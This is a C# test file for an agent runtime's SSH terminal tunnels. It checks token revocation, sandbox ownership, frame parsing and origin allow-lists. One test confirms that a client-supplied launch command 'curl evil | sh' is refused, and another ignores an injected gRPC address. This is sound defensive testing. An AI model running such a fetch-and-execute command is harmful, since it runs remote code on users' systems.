using System.Text;
using CsCheck;
using Grpc.Core;
using KagentTyped.OpenShellApi.V1;
using KagentTyped.Runtime.OpenShell.Terminals;
using KagentTyped.Runtime.OpenShell.Tests.Support;
using KagentTyped.Runtime.Tests.Support;
using KagentTyped.Tests.Support;
using KagentTyped.V1Alpha2;

namespace KagentTyped.Runtime.OpenShell.Tests.Terminals;

public sealed class TerminalTests : IAsyncLifetime
{
    private static readonly TerminalStart Start = new("kagent-claw", 80, 24, PlainShell: false, LaunchCommand: null);

    private readonly AgentHarness _harness = Harness.Of("{backend: openclaw}");
    private HarnessWorld _world = null!;

    private OpenShellTerminals Terminals => new(_world.Connection);

    public async Task InitializeAsync()
    {
        _world = await HarnessWorld.StartAsync();
        await _world.ReadyAsync(_world.Claw, _harness);
    }

    public async Task DisposeAsync() => await _world.DisposeAsync();

    [Fact]
    [Trait("spec", "I-5")]
    public async Task Tunnel_CarriesBytesBothWays_OverTheAuthenticatedConnection_AndEndsItsSession()
    {
        await using (var tunnel = await Terminals.OpenSshAsync(_harness, Start))
        {
            await tunnel.WriteAsync("hello"u8.ToArray());
            await tunnel.WriteAsync(Array.Empty<byte>());
            await tunnel.WriteAsync("!"u8.ToArray());
            Assert.Equal("hello!", await ReadAsync(tunnel, 6));
        }

        var init = _world.Gateway.Forwards.Single();
        Assert.Equal(("id-kagent-claw", "ssh-proxy:id-kagent-claw", "ssh-id-kagent-claw", TcpForwardInit.TargetOneofCase.Ssh), (init.SandboxId, init.ServiceId, init.AuthorizationToken, init.TargetCase));
        Assert.Equal(["ssh-id-kagent-claw"], _world.Gateway.RevokedTokens);
        Assert.All(_world.Server.Faults.Tokens, tokens => Assert.Equal(["Bearer tok"], tokens));
    }

    [Fact]
    public async Task ReadInSmallPieces_LosesNothing_AndAGivenUpReadLosesNoFrame()
    {
        await using var tunnel = await Terminals.OpenSshAsync(_harness, Start);
        using var impatient = new CancellationTokenSource(TimeSpan.FromMilliseconds(50));
        await Assert.ThrowsAnyAsync<OperationCanceledException>(() => tunnel.ReadAsync(new byte[8], impatient.Token).AsTask());
        await tunnel.WriteAsync("abc"u8.ToArray());
        byte[] one = new byte[1];
        var text = new StringBuilder();
        for (int i = 0; i < 3; i++)
        {
            Assert.Equal(1, await tunnel.ReadAsync(one));
            text.Append((char)one[0]);
        }

        Assert.Equal("abc", text.ToString());
    }

    [Fact]
    public async Task Closing_EndsAReadThatWaits_AndIsDoneOnce()
    {
        var tunnel = await Terminals.OpenSshAsync(_harness, Start);
        var read = tunnel.ReadAsync(new byte[8]).AsTask();
        await tunnel.DisposeAsync();
        await tunnel.DisposeAsync();

        Assert.Equal(0, await read);
        Assert.Equal(0, await tunnel.ReadAsync(new byte[8]));
        await Assert.ThrowsAsync<ObjectDisposedException>(async () => await tunnel.WriteAsync("x"u8.ToArray()));
        Assert.Single(_world.Gateway.RevokedTokens);
    }

    [Fact]
    [Trait("spec", "I-5")]
    public async Task SandboxOfAnotherHarness_IsNotOpened()
    {
        var e = await Assert.ThrowsAsync<OpenShellException>(() => Terminals.OpenSshAsync(_harness, Start with { SandboxName = "kagent-other" }));
        Assert.Equal("sandbox \"kagent-other\" is not that of AgentHarness kagent/claw", e.Message);

        _world.Gateway.Sandboxes["kagent-claw"].Metadata.Labels.Clear();
        e = await Assert.ThrowsAsync<OpenShellException>(() => Terminals.OpenSshAsync(_harness, Start));
        Assert.Equal("sandbox \"kagent-claw\" does not belong to AgentHarness kagent/claw", e.Message);
        Assert.DoesNotContain("CreateSshSession", _world.Server.Faults.Methods);
    }

    [Theory]
    [InlineData("GetSandbox", "GetSandbox: rpc error: code = PermissionDenied desc = no")]
    [InlineData("CreateSshSession", "CreateSshSession: rpc error: code = PermissionDenied desc = no")]
    public async Task FailedStep_IsNamed(string method, string message)
    {
        _world.Server.Faults.Decide = (called, _) => called == method ? (StatusCode.PermissionDenied, "no", false) : null;

        Assert.Equal(message, (await Assert.ThrowsAsync<OpenShellException>(() => Terminals.OpenSshAsync(_harness, Start))).Message);
    }

    [Theory]
    [InlineData(true, "anything", "hermes", null)]
    [InlineData(false, null, "hermes", "cd /sandbox/.hermes && exec hermes")]
    [InlineData(false, "  ", "openclaw", "openclaw tui")]
    [InlineData(false, null, "nemoclaw", "openclaw tui")]
    [InlineData(false, null, "other", "openclaw tui")]
    [InlineData(false, "  openclaw tui  ", "openclaw", "openclaw tui")]
    public void Command_FollowsFromTheBackend(bool plain, string? asked, string backend, string? command)
        => Assert.Equal(command, TerminalCommands.Choose(Start with { PlainShell = plain, LaunchCommand = asked }, backend));

    [Fact]
    [Trait("spec", "I-5")]
    public void CommandOfTheClientsOwn_IsRefused()
        => Assert.Throws<OpenShellException>(() => TerminalCommands.Choose(Start with { LaunchCommand = "curl evil | sh" }, AgentHarnessBackendType.Openclaw));

    [Theory]
    [InlineData("""{"sandbox_name":"  sb  ","cols":80,"rows":24,"plain_shell":true}""", "sb", 80, 24, true)]
    [InlineData("""{"sandbox_name":"sb"}""", "sb", 120, 36, false)]
    [InlineData("""{"sandbox_name":"sb","cols":0,"rows":-1,"grpc_address":"evil:1"}""", "sb", 120, 36, false)]
    [InlineData("""{"sandbox_name":"sb","cols":"80","rows":1e99,"plain_shell":"yes"}""", "sb", 120, 36, false)]
    public void StartFrame_IsRead(string frame, string name, int columns, int rows, bool plain)
        => Assert.Equal(new(name, columns, rows, plain, null), TerminalStart.Parse(Encoding.UTF8.GetBytes(frame)));

    [Theory]
    [InlineData("""{"sandbox_name":"  "}""", "sandbox_name is required")]
    [InlineData("""{"sandbox_name":7}""", "sandbox_name is required")]
    [InlineData("not-json", "first frame must be JSON start payload")]
    [InlineData("", "first frame must be JSON start payload")]
    [InlineData("""{"sandbox_name":"x"} tail""", "first frame must be JSON start payload")]
    public void BadStartFrame_IsRefused(string frame, string message)
        => Assert.Equal(message, Assert.Throws<OpenShellException>(() => TerminalStart.Parse(Encoding.UTF8.GetBytes(frame))).Message);

    [Theory]
    [InlineData("")]
    [InlineData("hello")]
    [InlineData("[1,2]")]
    [InlineData("""{"type":"ping"}""")]
    [InlineData("""{"type":"resize","cols":0,"rows":40}""")]
    [InlineData("""{"type":"resize","cols":100,"rows":0}""")]
    [InlineData("""{"type":"resize","cols":100}""")]
    [InlineData("{")]
    public void EverythingButAResize_IsInput(string frame) => Assert.Null(TerminalFrames.ReadResize(Encoding.UTF8.GetBytes(frame)));

    [Fact]
    public void Resize_IsRead() => Assert.Equal((100, 40), TerminalFrames.ReadResize("""{"type":"resize","cols":100,"rows":40}"""u8));

    [Fact]
    public void AnyFrame_IsReadWithoutHarm() => Gen.Select(Gen.OneOf("{", "{\"type\":\"resize\",", "{\"cols\":", ""), Gen.Byte.Array[0, 40]).SampleSame((start, rest) =>
    {
        byte[] frame = [.. Encoding.UTF8.GetBytes(start), .. rest];
        return TerminalFrames.ReadResize(frame) is null or ( > 0, > 0);
    }, iter: 5_000);

    [Fact]
    public void ServerFrames_AreJson()
    {
        Assert.Equal("""{"type":"ready"}""", Encoding.UTF8.GetString(TerminalFrames.Ready.Span));
        Assert.Equal("""{"type":"error","message":"a\u0022b"}""", Encoding.UTF8.GetString(TerminalFrames.Error("a\"b")));
        Assert.Equal("""{"type":"exit","code":3}""", Encoding.UTF8.GetString(TerminalFrames.Exit(3)));
    }

    [Theory]
    [Trait("spec", "I-5")]
    [InlineData(null, true)]
    [InlineData("", true)]
    [InlineData("https://kagent.example", true)]
    [InlineData("https://Kagent.example", true)]
    [InlineData("https://ui.example", true)]
    [InlineData("https://evil.example", false)]
    [InlineData("https://kagent.example.evil", false)]
    [InlineData("https://kagent.example:8443", false)]
    [InlineData("null", false)]
    [InlineData("file://kagent.example", false)]
    public void OnlyKnownPages_MayOpenTerminals(string? origin, bool isAllowed)
        => Assert.Equal(isAllowed, TerminalOrigin.IsAllowed(origin, "kagent.example", ["https://ui.example"]));

    private static async Task<string> ReadAsync(Stream stream, int count)
    {
        byte[] bytes = new byte[count];
        await stream.ReadExactlyAsync(bytes);
        return Encoding.UTF8.GetString(bytes);
    }
}
